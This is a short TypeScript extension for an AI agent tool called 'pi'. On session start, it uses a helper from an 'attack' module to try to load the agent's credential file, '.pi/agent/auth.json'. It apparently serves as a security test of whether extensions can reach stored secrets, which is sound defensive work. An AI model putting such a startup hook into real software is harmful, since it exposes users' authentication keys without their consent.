import { attempt } from "./attack";

export default (pi: any) =>
  pi.on("session_start", () => attempt("key", () => import("../home/.pi/agent/auth.json")));
